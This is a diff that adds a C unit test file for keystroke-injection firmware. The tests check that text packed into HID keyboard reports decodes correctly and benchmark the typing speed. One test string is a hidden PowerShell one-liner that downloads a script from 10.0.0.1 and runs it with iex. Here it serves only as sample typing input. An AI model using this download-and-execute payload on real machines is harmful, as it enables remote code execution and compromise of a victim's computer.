@@ -0,0 +1,234 @@
+/**************************************************************************************************/
+/* Name:                                                                                          */
+/*     test_string                                                                                */
+/* Description:                                                                                   */
+/*     STRING typing tests (native): the text packed into 6KRO boot keyboard reports is decoded   */
+/*     back by a host that reads newly pressed keys in report slots order, and a benchmark        */
+/*     reports the characters per second of packed reports against one key per report.            */
+/**************************************************************************************************/
+
+/* Libraries */
+
+#include <unity.h>
+#include <time.h>
+#include <NativeHID.h>
+#include "hidstring.h"
+#include "NativeRun.h"
+
+/**************************************************************************************************/
+
+/* Defines */
+
+// Maximum number of recorded reports
+#define MAX_REPORTS 1024
+
+// Maximum decoded text length
+#define TEXT_SIZE 256
+
+// USB full speed keyboard polling interval of the report timing model (us), one report is read
+// by the host each interval
+#define POLL_INTERVAL_US 1000
+
+// Reports of a character typed alone (press and release)
+#define CHAR_REPORTS 2
+
+// Times each text is typed in the benchmark
+#define BENCH_PASSES 2000
+
+/**************************************************************************************************/
+
+/* Constant Tables */
+
+// Typed texts
+static const char* const TEXTS[] =
+{
+    "The quick brown fox jumps over the lazy dog",
+    "Hello, World! 0123456789 (x + y) * z = {a; b}",
+    "powershell -nop -w hidden -c \"iwr http://10.0.0.1/a.ps1 | iex\"",
+    "aaa bbb abcabc abcdefghij ABCDEFGHIJ aBcDeF",
+    "cd /tmp && ls -la > out.txt; echo $?"
+};
+
+/**************************************************************************************************/
+
+/* Global Objects */
+
+// Reports sent by the Keyboard mock
+static t_native_hid_report reports[MAX_REPORTS];
+static uint16_t reports_n = 0;
+
+/**************************************************************************************************/
+
+/* Auxiliar Functions */
+
+static uint64_t monotonic_ns(void)
+{
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return ((uint64_t)ts.tv_sec * 1000000000) + ts.tv_nsec;
+}
+
+// Record a sent report
+static void record_report(const t_native_hid_report* report, const uint32_t us)
+{
+    if(reports_n < MAX_REPORTS)
+        reports[reports_n] = *report;
+    reports_n = reports_n + 1;
+}
+
+// Get the character typed by a key with some modifiers in current layout (0 if none)
+static char keystroke_char(const uint8_t modifiers, const uint8_t key)
+{
+    t_hid_keystroke keystroke;
+
+    for(char c = ' '; c <= '~'; c++)
+    {
+        keystroke = hid_ascii_to_keystroke(c);
+        if((keystroke.key == key) && (keystroke.modifiers == modifiers))
+            return c;
+    }
+
+    return 0;
+}
+
+// Check if a key is pressed in a report
+static bool report_has_key(const t_native_hid_report* report, const uint8_t key)
+{
+    for(uint8_t i = 0; i < HID_REPORT_KEYS; i++)
+    {
+        if(report->keys[i] == key)
+            return true;
+    }
+
+    return false;
+}
+
+// Decode the text typed by some reports as a host does: keys that were not pressed in the
+// previous report are new key presses, in report slots order, typed with the report modifiers
+static void reports_decode(const t_native_hid_report* typed, const uint16_t n, char* text,
+    const size_t size)
+{
+    static const t_native_hid_report released = { 0, { 0 } };
+    const t_native_hid_report* previous = &released;
+    size_t len = 0;
+    char c = 0;
+
+    for(uint16_t r = 0; r < n; r++)
+    {
+        for(uint8_t i = 0; i < HID_REPORT_KEYS; i++)
+        {
+            if((typed[r].keys[i] == 0) || report_has_key(previous, typed[r].keys[i]))
+                continue;
+            c = keystroke_char(typed[r].modifiers, typed[r].keys[i]);
+            TEST_ASSERT_NOT_EQUAL(0, c);
+            TEST_ASSERT_LESS_THAN(size - 1, len);
+            text[len] = c;
+            len = len + 1;
+        }
+        previous = &(typed[r]);
+    }
+    text[len] = '\0';
+}
+
+/**************************************************************************************************/
+
+/* Tests */
+
+void setUp(void)
+{
+    reports_n = 0;
+}
+
+void tearDown(void) {}
+
+// Each text is read back by the host as it was typed, every key is released at the end, and the
+// packed reports are never more than one press and one release report per character
+void test_string_order(void)
+{
+    char decoded[TEXT_SIZE];
+    uint16_t sent = 0;
+
+    for(uint8_t t = 0; t < sizeof(TEXTS)/sizeof(TEXTS[0]); t++)
+    {
+        reports_n = 0;
+        sent = hid_string_write(TEXTS[t], strlen(TEXTS[t]));
+        TEST_ASSERT_EQUAL_UINT16(sent, reports_n);
+        TEST_ASSERT_LESS_OR_EQUAL(CHAR_REPORTS * strlen(TEXTS[t]), sent);
+
+        reports_decode(reports, reports_n, decoded, sizeof(decoded));
+        TEST_ASSERT_EQUAL_STRING(TEXTS[t], decoded);
+        TEST_ASSERT_EQUAL_HEX8(0, reports[reports_n - 1].modifiers);
+        for(uint8_t i = 0; i < HID_REPORT_KEYS; i++)
+            TEST_ASSERT_EQUAL_HEX8(0, reports[reports_n - 1].keys[i]);
+    }
+}
+
+// STRING command lines are typed by the firmware with the same packed reports
+void test_string_command(void)
+{
+    char script[TEXT_SIZE + 32];
+    char decoded[TEXT_SIZE];
+    t_native_run_options options;
+    t_native_run run;
+
+    snprintf(script, sizeof(script), "DEFAULT_DELAY 0\nSTRING %s\n", TEXTS[0]);
+    memset(&options, 0, sizeof(options));
+    options.input = (const uint8_t*)script;
+    options.input_len = strlen(script);
+    TEST_ASSERT_EQUAL_INT(0, native_run(&options, &run));
+
+    TEST_ASSERT_EQUAL_UINT32(hid_string_write(TEXTS[0], strlen(TEXTS[0])), run.reports_n);
+    for(uint16_t r = 0; r < run.reports_n; r++)
+        reports[r] = run.reports[r].report;
+    reports_decode(reports, run.reports_n, decoded, sizeof(decoded));
+    TEST_ASSERT_EQUAL_STRING(TEXTS[0], decoded);
+    native_run_free(&run);
+}
+
+// Characters per second of packed reports and of one key per report, with a host that reads a
+// report each polling interval, and host time to build the packed reports (native)
+void test_string_benchmark(void)
+{
+    uint32_t chars = 0;
+    uint32_t packed = 0;
+    uint32_t len = 0;
+    uint16_t sent = 0;
+    uint64_t start = 0;
+    double write_ns = 0;
+
+    for(uint8_t t = 0; t < sizeof(TEXTS)/sizeof(TEXTS[0]); t++)
+    {
+        len = strlen(TEXTS[t]);
+        start = monotonic_ns();
+        for(uint16_t n = 0; n < BENCH_PASSES; n++)
+            sent = hid_string_write(TEXTS[t], len);
+        write_ns = (double)(monotonic_ns() - start) / BENCH_PASSES;
+
+        printf("%-40.40s %3u chars %3u reports %5.0f chars/s (%3.0f one key) %6.1f ns/char\n",
+            TEXTS[t], len, sent, (len * 1e6) / ((double)sent * POLL_INTERVAL_US),
+            1e6 / (CHAR_REPORTS * POLL_INTERVAL_US), write_ns / len);
+        chars = chars + len;
+        packed = packed + sent;
+    }
+    printf("total: %u chars %u reports, %.0f chars/s packed against %.0f chars/s (%.2fx)\n",
+        chars, packed, (chars * 1e6) / ((double)packed * POLL_INTERVAL_US),
+        1e6 / (CHAR_REPORTS * POLL_INTERVAL_US), (double)(CHAR_REPORTS * chars) / packed);
+
+    // At least twice the characters per second of one key per report
+    TEST_ASSERT_LESS_OR_EQUAL(chars, packed);
+}
+
+/**************************************************************************************************/
+
+/* Main Function */
+
+int main(int argc, char** argv)
+{
+    native_hid_set_hook(record_report);
+
+    UNITY_BEGIN();
+    RUN_TEST(test_string_order);
+    RUN_TEST(test_string_command);
+    RUN_TEST(test_string_benchmark);
+    return UNITY_END();
+}